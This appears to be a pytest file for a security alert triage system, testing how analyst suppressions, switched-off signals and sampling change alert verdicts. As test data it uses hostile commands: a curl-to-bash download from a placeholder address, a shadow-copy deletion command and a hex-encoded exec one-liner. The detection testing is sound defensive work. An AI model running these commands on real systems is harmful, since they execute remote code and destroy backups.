"""Suppressions, switched-off signals and the sample, on both databases (contract 56)."""

import asyncio
from collections.abc import Sequence

import msgspec
import pytest
import sqlalchemy as sa
from hypothesis import assume, given
from hypothesis import strategies as st

from tests.audit import events
from tests.triage.stored import NOW, TENANT, incident, new, numbers_of, stored_rows
from vyrox.alerts.verdict import Decision
from vyrox.errors import InvalidRequestError, NotFoundError, NotPossibleError
from vyrox.models import NormalizedAlert
from vyrox.store.database import Database
from vyrox.store.tables import verdicts
from vyrox.triage import life, suppression_life, suppressions
from vyrox.triage.decisions import decide_alerts
from vyrox.triage.explaining import explain, list_hidden
from vyrox.triage.fingerprint import MAX_SHAPED
from vyrox.triage.incident_ids import IncidentKey
from vyrox.triage.judging import is_sampled, store_verdicts
from vyrox.triage.memory import Memory, read_memory, remember
from vyrox.triage.preview import preview
from vyrox.triage.sampling import read_sample
from vyrox.triage.scope import (
    DANGEROUS,
    FAMILIES,
    Scope,
    is_weak,
    narrowest,
    shape_key,
    shown_shape,
    traits_of,
)
from vyrox.triage.score import Verdict, judge, with_error
from vyrox.triage.story import BANDS
from vyrox.triage.suppressing import Asked, offers, suppress
from vyrox.triage.suppression_life import DAY_S, MAX_ACTIVE
from vyrox.triage.suppressions import Suppression
from vyrox.triage.switches import Disabled, disable, enable

DOWNLOAD = "curl -fsSL http://203.0.113.7/agent-{}.sh | bash"
SHADOWS = "vssadmin delete shadows /all /quiet"


async def run_batch(
    database: Database, *found: NormalizedAlert, now: float = NOW, tenant_id: str = TENANT
) -> list[Verdict]:
    """Judge and store alerts as the worker does; return their verdicts."""
    await stored_rows(database, found)
    memory = await database.read(read_memory, tenant_id, now)
    batch = [
        (each, memory.suppressed(each, judge(each, disabled=memory.disabled))) for each in found
    ]
    await database.write(store_verdicts, tenant_id, batch, now)
    return [verdict for _, verdict in batch]


async def make(database: Database, now: float = NOW, **members: object) -> Suppression:
    values: dict[str, object] = {"tenant_id": TENANT, "reason": "our agent", "author": "ann"}
    asked = msgspec.convert({**values, **members}, Asked)
    return await database.write(suppress, asked, now)


async def hits(database: Database, suppression_id: str) -> tuple[int, float | None]:
    found = await database.read(suppressions.find, None, suppression_id)
    return found.hits, found.last_hit_at


async def test_a_suppression_lowers_the_band_says_so_and_counts_contract_56(
    database: Database,
) -> None:
    first = new(command=DOWNLOAD.format(1))
    [before] = await run_batch(database, first)
    assert before.band != "close"
    made = await make(database, like=first.id)
    others = [new(n, DOWNLOAD.format(n)) for n in range(2, 5)]
    found = await run_batch(database, *others, now=NOW + 9)
    assert {(each.band, each.suppression) for each in found} == {("close", made.id)}
    assert {each.score for each in found} == {before.score}
    line = f"hidden by suppression {made.id}: the band was {before.band}"
    assert line in found[0].explanation()
    assert await hits(database, made.id) == (3, NOW + 9)
    # Stored, grouped and counted; and no reason to raise the incident.
    assert (await incident(database, 1)).alerts == 4
    shown = await database.read(explain, others[0].id)
    assert (shown.band, shown.own_band) == ("close", before.band)
    assert shown.suppression is not None
    assert shown.suppression.reason == "our agent"
    hidden = await database.read(list_hidden, TENANT, made.id, 50)
    assert [each.id for each in hidden] == [each.id for each in reversed(others)]


async def test_it_holds_for_nothing_else_contract_56(database: Database) -> None:
    first = new(command=DOWNLOAD.format(1), username="CORP\\svc-deploy")
    await run_batch(database, first)
    await make(database, like=first.id)
    same = {"command": DOWNLOAD.format(2), "username": "corp\\SVC-deploy"}
    assert (await run_batch(database, new(1, **same)))[0].band == "close"
    for change in (
        {"hostname": "ws-2"},
        {"hostname": None, "device_id": None},
        {"username": "bob"},
        {"command": DOWNLOAD.format(2).replace(".7/", ".8/")},  # another address
        {"command": DOWNLOAD.format(2) + " x"},
    ):
        [other] = await run_batch(database, new(2, **{**same, **change}))
        assert (other.suppression, other.band != "close") == (None, True), change
    [other] = await run_batch(database, new(3, **same, tenant_id="other"), tenant_id="other")
    assert other.suppression is None


async def test_other_behaviour_is_not_hidden_contract_56(database: Database) -> None:
    await make(database, program="curl", families=["download", "vendor"], host="ws-1")
    curl = {"process_name": "Curl", "vendor_severity": "HIGH"}
    [hidden] = await run_batch(database, new(0, DOWNLOAD.format(1), **curl))
    assert hidden.suppression is not None
    [more] = await run_batch(database, new(1, f"{DOWNLOAD.format(1)} && {SHADOWS}", **curl))
    assert (more.suppression, more.band) == (None, "urgent")


async def test_a_higher_severity_of_the_vendor_is_not_hidden_contract_56(
    database: Database,
) -> None:
    """The vendor sees more than the command line, which may be the same as ever."""
    first = new(command=DOWNLOAD.format(1))
    await run_batch(database, first)
    await make(database, like=first.id)
    same = [new(1, DOWNLOAD.format(2), vendor_severity=word) for word in ("LOW", "MEDIUM", "HIGH")]
    found = await run_batch(database, *same)
    assert [each.suppression is not None for each in found] == [True, True, False]
    await make(database, like=same[-1].id)
    [verdict] = await run_batch(database, new(2, DOWNLOAD.format(3), vendor_severity="CRITICAL"))
    assert verdict.band == "close"


async def test_a_rule_that_failed_is_not_hidden_contract_56(database: Database) -> None:
    made = await make(database, program="curl", any_host=True)
    alert = new(process_name="curl")
    memory = await database.read(read_memory, TENANT, NOW)
    assert memory.suppressed(alert, judge(alert)).suppression == made.id
    assert memory.suppressed(alert, with_error("x")) == with_error("x")


async def test_it_expires_and_ends_contract_56(database: Database) -> None:
    made = await make(database, program="curl", any_host=True, days=2)
    other = await make(database, program="wget", any_host=True)

    async def holding(now: float) -> set[str]:
        found = await database.read(suppressions.read_holding, TENANT, now)
        return {suppression_id for suppression_id, _ in found}

    assert await holding(made.expires_at - 1) == {made.id, other.id}
    assert await holding(made.expires_at) == {other.id}
    assert other.expires_at == NOW + 30 * DAY_S
    await database.write(suppression_life.end, TENANT, other.id, "bob", "moved", NOW + 5)
    assert await holding(NOW + 6) == {made.id}
    kinds = [each["kind"] for each in await events(database, TENANT)]
    assert kinds == ["suppression.created"] * 2 + ["suppression.ended"]
    # A second end changes nothing, and has no event.
    await database.write(suppression_life.end, TENANT, other.id, "bob", "again", NOW + 7)
    assert len(await events(database, TENANT)) == 3
    with pytest.raises(NotFoundError):
        await database.write(suppression_life.end, "other", made.id, "bob", "", NOW)
    for days in (0, 181):
        with pytest.raises(InvalidRequestError):
            await make(database, program="curl", any_host=True, days=days)


async def test_a_malicious_verdict_ends_it_on_any_host_contract_56(database: Database) -> None:
    first, same = new(command=DOWNLOAD.format(1)), new(1, DOWNLOAD.format(9), hostname="ws-2")
    await run_batch(database, first, same, new(2))
    by_shape = await make(database, like=first.id)
    by_program = await make(database, program="curl", any_host=True)
    decision = Decision(None, (same.id,), "malicious", "bob")
    decided = await database.write(decide_alerts, decision, NOW + 5)
    assert decided.ended == [by_shape.id]
    [ended] = await events(database, TENANT, "suppression.ended")
    assert (ended["suppression"], ended["by"]) == (by_shape.id, "bob")
    assert ended["why"] == f"alert {same.id} was found malicious"
    assert (await run_batch(database, new(3, DOWNLOAD.format(1))))[0].suppression is None
    with pytest.raises(NotPossibleError, match=same.id):
        await make(database, like=first.id)
    # A wider scope meets the malicious alert too; a person may change their mind.
    with pytest.raises(NotPossibleError):
        await make(database, families=["download"], host="ws-2")
    await database.write(decide_alerts, Decision(None, (same.id,), "benign", "bob"), NOW + 6)
    await make(database, like=first.id)
    holding = await database.read(suppressions.read_holding, TENANT, NOW + 7)
    assert by_program.id in {suppression_id for suppression_id, _ in holding}


async def test_a_malicious_incident_ends_what_has_hidden_alerts_of_it_contract_56(
    database: Database,
) -> None:
    await run_batch(database, new(command=SHADOWS, hostname="ws-1"))
    inside = await make(database, program="curl", families=["download"], host="ws-1")
    outside = await make(database, program="curl", families=["download"], host="ws-2")
    hidden = [
        new(n, DOWNLOAD.format(n), process_name="curl", hostname=host, device_id=host)
        for n, host in enumerate(("ws-1", "ws-2"), 1)
    ]
    await run_batch(database, *hidden)
    assert await hits(database, inside.id) == (1, NOW)
    [number, *_] = await numbers_of(database, hidden[0])
    key = IncidentKey(TENANT, number)
    await database.write(life.close, key, life.Actor("bob", NOW + 5), "malicious")
    [ended] = await events(database, TENANT, "suppression.ended")
    assert (ended["suppression"], ended["by"]) == (inside.id, "bob")
    holding = await database.read(suppressions.read_holding, TENANT, NOW + 6)
    assert [suppression_id for suppression_id, _ in holding] == [outside.id]


@pytest.mark.parametrize("second", ["ann", " Ann ", "\uff21nn"])
async def test_dangerous_families_need_a_second_person_contract_56(
    database: Database, second: str
) -> None:
    first = new(command=SHADOWS)
    await run_batch(database, first)
    made = await make(database, like=first.id)
    assert made.state(NOW) == "unconfirmed"
    assert (await run_batch(database, new(1, SHADOWS)))[0].suppression is None
    with pytest.raises(NotPossibleError, match="second person"):
        await database.write(suppression_life.confirm, TENANT, made.id, second, NOW)
    await database.write(suppression_life.confirm, TENANT, made.id, "bob", NOW)
    assert (await run_batch(database, new(2, SHADOWS)))[0].suppression == made.id
    with pytest.raises(NotPossibleError):
        await database.write(suppression_life.confirm, TENANT, made.id, "carl", NOW)
    [confirmed] = await events(database, TENANT, "suppression.confirmed")
    assert confirmed["by"] == "bob"


async def test_one_that_ends_while_a_batch_is_judged_hides_nothing_contract_56(
    database: Database,
) -> None:
    first = new(command=DOWNLOAD.format(1), vendor_severity="HIGH")
    await run_batch(database, first)
    made = await make(database, like=first.id)
    memory = await database.read(read_memory, TENANT, NOW)
    late = new(1, DOWNLOAD.format(2), vendor_severity="HIGH")
    hidden = memory.suppressed(late, judge(late))
    assert hidden.suppression == made.id
    decision = Decision(None, (first.id,), "malicious", "bob")
    await database.write(decide_alerts, decision, NOW + 1)
    await stored_rows(database, [late])
    await database.write(store_verdicts, TENANT, [(late, hidden)], NOW + 2)
    shown = await database.read(explain, late.id)
    assert (shown.band, shown.suppression) == (judge(late).band, None)
    assert (await hits(database, made.id))[0] == 0


async def test_the_number_of_suppressions_is_bounded_contract_56(
    sqlite: Database, monkeypatch: pytest.MonkeyPatch
) -> None:
    assert MAX_ACTIVE <= 500
    monkeypatch.setattr(suppression_life, "MAX_ACTIVE", 2)
    await make(sqlite, program="a", any_host=True)
    last = await make(sqlite, program="b", any_host=True)
    with pytest.raises(NotPossibleError, match="2 suppressions already"):
        await make(sqlite, program="c", any_host=True)
    await make(sqlite, program="c", any_host=True, tenant_id="other")
    await sqlite.write(suppression_life.end, TENANT, last.id, "ann", "", NOW)
    await make(sqlite, program="c", any_host=True)


@pytest.mark.parametrize(
    "members",
    [
        {"program": "x"},  # for which host?
        {"any_host": True},
        {"any_host": True, "families": ["vendor"]},  # all that only the vendor calls bad
        {"any_host": True, "username": "bob"},
        {"program": "x", "host": "unknown"},
        {"program": "x", "host": "ws-1", "any_host": True},
        {"command": "", "any_host": True},
        {"command": "x" * (MAX_SHAPED + 1), "any_host": True},
        {"families": ["technique"], "any_host": True},
        {"families": ["donwload"], "any_host": True},
        {"program": "x", "any_host": True, "reason": " "},
        {"program": "x", "any_host": True, "author": "\0"},
    ],
)
async def test_a_scope_says_what_it_hides_contract_56(
    sqlite: Database, members: dict[str, object]
) -> None:
    with pytest.raises(InvalidRequestError):
        await make(sqlite, NOW, **members)


async def test_preview_shows_what_would_have_been_hidden_contract_56(database: Database) -> None:
    found = [
        new(n, DOWNLOAD.format(n), hostname=f"ws-{n % 3}", device_id=f"d-{n % 3}")
        for n in range(12)
    ]
    old = new(-40 * DAY_S, DOWNLOAD.format(1))
    other = new(command="whoami")
    await run_batch(database, old, other, *found)
    scope = narrowest(found[0], judge(found[0]))
    shown = await preview(database, TENANT, scope, NOW + 60)
    assert (shown.alerts, shown.raised, shown.host_names) == (4, 4, ["ws-0"])
    wide = msgspec.structs.replace(scope, host=None)
    shown = await preview(database, TENANT, wide, NOW + 60)
    assert (shown.alerts, shown.hosts, len(shown.examples)) == (12, 3, 5)
    assert shown.highest == judge(found[0]).score
    assert shown.is_complete
    assert (await preview(database, "other", wide, NOW + 60)).alerts == 0


async def test_preview_reads_pages_and_a_bounded_number_contract_56(
    sqlite: Database, monkeypatch: pytest.MonkeyPatch
) -> None:
    from vyrox.triage import preview as previews

    monkeypatch.setattr(previews, "PAGE", 3)
    found = [new(n // 2, DOWNLOAD.format(n)) for n in range(8)]
    await run_batch(sqlite, *found)
    scope = narrowest(found[0], judge(found[0]))
    assert (await preview(sqlite, TENANT, scope, NOW + 60)).alerts == 8
    monkeypatch.setattr(previews, "MAX_SEARCHED", 6)
    shown = await preview(sqlite, TENANT, scope, NOW + 60)
    assert (shown.alerts, shown.searched, shown.is_complete) == (6, 6, False)


async def test_a_benign_alert_offers_the_narrowest_scope_contract_56(database: Database) -> None:
    found = [new(n, DOWNLOAD.format(n)) for n in range(3)]
    nameless = new(4, DOWNLOAD.format(1), hostname=None, device_id=None)
    await run_batch(database, *found, nameless)
    ids = [each.id for each in (*found, nameless)]
    offered = await database.read(offers, ids)
    assert len(offered) == 2
    assert f"vyrox triage suppress {TENANT} --like {found[0].id} --reason REASON" in offered
    assert f"vyrox triage suppress {TENANT} --like {nameless.id} --any-host --reason REASON" in (
        offered
    )
    await make(database, like=found[0].id)
    hidden = new(5, DOWNLOAD.format(7))
    await run_batch(database, hidden)
    assert await database.read(offers, [hidden.id]) == []


def test_a_shape_holds_a_program_in_hex_contract_56() -> None:
    lines = [f"python -c exec(bytes.fromhex('{each * 40}'))" for each in ("6f6b", "6576")]
    assert shape_key(lines[0]) != shape_key(lines[1])
    hashes = [f"verify {each * 64}" for each in "ab"]
    assert shape_key(hashes[0]) == shape_key(hashes[1])


async def test_a_signal_is_switched_off_for_one_tenant_contract_56(database: Database) -> None:
    name = "recovery.shadows_deleted"
    for second in (None, " ", "Ann", "a n\u200bn"):
        with pytest.raises(InvalidRequestError, match="second person"):
            await database.write(disable, Disabled(TENANT, name, "ann", NOW), second)
    assert await database.write(disable, Disabled(TENANT, name, "ann", NOW), "eve")
    assert not await database.write(disable, Disabled(TENANT, name, "bob", NOW), "eve")

    async def has_it(tenant_id: str) -> bool:
        [verdict] = await run_batch(
            database, new(command=SHADOWS, tenant_id=tenant_id), tenant_id=tenant_id
        )
        return any(reason.signal == name for reason in verdict.reasons)

    assert not await has_it(TENANT)
    assert await has_it("other")
    assert await database.write(enable, TENANT, name, "bob", NOW)
    assert not await database.write(enable, TENANT, name, "bob", NOW)
    assert await has_it(TENANT)
    kinds = {"signal.disabled": "ann", "signal.enabled": "bob"}
    found = [each for each in await events(database, TENANT) if each["kind"] in kinds]
    assert [(each["kind"], each["by"]) for each in found] == list(kinds.items())
    assert found[0]["second"] == "eve"
    with pytest.raises(InvalidRequestError, match=r"did you mean recovery\.shadows_deleted"):
        await database.write(disable, Disabled(TENANT, "recovery.shadow_deleted", "ann", NOW))


async def test_the_sample_of_closes_waits_for_a_person_contract_56(database: Database) -> None:
    found = [new(n, "whoami", id=f"sampled-{n}") for n in range(300)]
    sample = [each.id for each in found if is_sampled(each.id)]
    assert 1 < len(sample) < 20
    await run_batch(database, *found, new(command=SHADOWS))
    shown = await database.read(read_sample, TENANT, 50, NOW + 60)
    assert {each.id for each in shown.alerts} == set(sample)
    assert shown.alerts[0].reasons
    decision = Decision(None, (sample[0],), "malicious", "ann")
    await database.write(decide_alerts, decision, NOW + 1)
    shown = await database.read(read_sample, None, 1, NOW + 60)
    assert (shown.waiting, shown.malicious, len(shown.alerts)) == (len(sample) - 1, 1, 1)
    assert (await database.read(read_sample, "other", 50, NOW + 60)).waiting == 0


async def test_hits_are_counted_with_one_statement_for_a_batch_contract_56(
    sqlite: Database,
) -> None:
    await make(sqlite, program="curl", any_host=True)
    found = [new(n, process_name="curl") for n in range(100)]
    await stored_rows(sqlite, found)
    memory = await sqlite.read(read_memory, TENANT, NOW)
    batch = [(each, memory.suppressed(each, judge(each))) for each in found]
    statements: list[str] = []

    def store(connection: sa.Connection) -> None:
        def note(*args: object) -> None:
            statements.append(str(args[2]))

        sa.event.listen(connection, "before_cursor_execute", note)
        store_verdicts(connection, TENANT, batch, NOW)

    await sqlite.write(store)
    assert sum("UPDATE suppressions" in each for each in statements) == 1


async def test_two_batches_at_once_lose_no_hit_contract_56(database: Database) -> None:
    made = await make(database, program="curl", any_host=True)
    batches = [[new(n, process_name="curl") for n in range(5)] for _ in range(4)]
    await asyncio.gather(*(run_batch(database, *each) for each in batches))
    assert (await hits(database, made.id))[0] == 20
    hidden = sa.select(sa.func.count()).where(verdicts.c.suppression == made.id)
    assert await database.read(lambda connection: connection.execute(hidden).scalar_one()) == 20


NAMES = st.sampled_from([None, "a", "b"])
SHAPES = st.sampled_from([None, "a 1", "a 2", "b"])
SHARES = st.dictionaries(st.sampled_from([*FAMILIES, "technique"]), st.floats(0, 0.99), max_size=5)
SCOPES = st.builds(
    Scope,
    shape=SHAPES.map(shape_key),
    program=NAMES,
    families=st.lists(st.sampled_from(FAMILIES), unique=True, max_size=3).map(tuple),
    host=NAMES,
    username=NAMES,
)


@st.composite
def judged_alerts(draw: st.DrawFn) -> tuple[NormalizedAlert, Verdict]:
    alert = new(
        0.0,
        draw(SHAPES),
        hostname=draw(NAMES),
        device_id=draw(NAMES),
        username=draw(NAMES),
        process_name=draw(NAMES),
    )
    band = draw(st.sampled_from(BANDS))
    return alert, Verdict(draw(st.floats(0, 100)), band, families=draw(SHARES))


@given(st.lists(SCOPES, max_size=4), judged_alerts())
def test_a_suppression_never_hides_more_than_its_scope_contract_56(
    scopes: Sequence[Scope], judged: tuple[NormalizedAlert, Verdict]
) -> None:
    """It never raises a band, and hides no family, host, user, program or command outside it."""
    alert, verdict = judged
    memory = remember((f"sup-{n}", scope) for n, scope in enumerate(scopes))
    after = memory.suppressed(alert, verdict)
    assert BANDS.index(after.band) <= BANDS.index(verdict.band)
    assert msgspec.structs.replace(after, band=verdict.band, suppression=None) == verdict
    if after.suppression is None:
        assert after == verdict
        return
    scope = scopes[int(after.suppression.removeprefix("sup-"))]
    assert after.band == "close"
    assert scope.host in {None, alert.hostname or alert.device_id}
    assert scope.username in {None, alert.username}
    assert scope.program in {None, alert.process_name}
    assert scope.shape in {None, shape_key(alert.process_cmdline)}
    for family, share in verdict.families.items():
        assert share < 0.5 or family in {*scope.families, "technique"}


@given(judged_alerts())
def test_the_narrowest_scope_holds_for_its_own_alert_contract_56(
    judged: tuple[NormalizedAlert, Verdict],
) -> None:
    alert, verdict = judged
    scope = narrowest(alert, verdict)
    assume(scope.shape or scope.program or any(p > 0 for p in verdict.families.values()))
    if scope.shape is not None or scope.program is not None:
        assert scope.holds(traits_of(alert), verdict)
    weak = [p for family, p in verdict.families.items() if family in DANGEROUS]
    if is_weak(weak):
        assert not scope.needs_second


def test_a_shape_ignores_numbers_and_compares_addresses_contract_56() -> None:
    key = shape_key("rsync -a /srv/1 rsync://10.0.0.5/backup-1")
    assert key == shape_key("RSYNC  -a /srv/22 rsync://10.0.0.5/backup-99")
    assert key != shape_key("rsync -a /srv/1 rsync://10.0.0.6/backup-1")
    assert shape_key("ping 10.0.0.5") != shape_key("ping 10.0.0.6")
    assert shape_key("x" * MAX_SHAPED + "y") is None
    assert shown_shape("ping 10.0.0.5 -n 99; curl http://h1/22") == (
        "ping 10.0.0.5 -n #; curl http://h1/#"
    )
    assert shape_key(" \0") is shape_key(None) is None


def test_a_tenant_without_suppressions_costs_nothing_contract_56() -> None:
    alert = new(command=SHADOWS)
    verdict = judge(alert)
    assert Memory().suppressed(alert, verdict) is verdict
